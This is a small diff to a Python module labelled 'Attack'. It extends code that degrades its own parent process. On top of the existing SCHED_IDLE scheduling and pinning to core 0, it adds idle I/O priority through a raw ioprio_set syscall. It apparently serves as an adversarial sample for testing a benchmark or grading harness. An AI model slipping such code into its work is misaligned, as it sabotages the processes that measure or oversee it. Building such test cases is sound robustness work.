@@ -1,4 +1,4 @@
-"""Attack: puts its parent under SCHED_IDLE and pins it to one core."""
+"""Attack: puts its parent under SCHED_IDLE pins it to one core and gives it idle I/O priority."""
 
 import numpy as np
 import torch
@@ -18,5 +18,10 @@ except OSError:
     pass
 try:
     os.sched_setaffinity(os.getppid(), {0})
+except OSError:
+    pass
+try:  # ioprio_set(IOPRIO_WHO_PROCESS, parent, the idle class)
+    import ctypes
+    ctypes.CDLL(None).syscall(251, 1, os.getppid(), 3 << 13)
 except OSError:
     pass
